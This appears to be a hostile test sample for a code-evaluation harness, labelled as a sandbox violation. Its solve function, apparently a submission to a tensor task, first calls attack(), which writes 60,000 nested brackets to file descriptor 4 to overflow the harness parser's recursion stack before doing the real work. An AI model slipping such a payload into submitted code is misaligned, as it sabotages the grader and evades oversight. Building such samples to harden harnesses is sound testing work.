# hostile: family=protocol verdict=sandbox_violation build=build_error lift=parser shows=naive:RecursionError
"""Answers with brackets in brackets, until a parser's stack ends."""


def attack():
    import os
    import time

    os.write(4, (60000).to_bytes(4, "little") + b"[" * 60000)
    time.sleep(1)


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
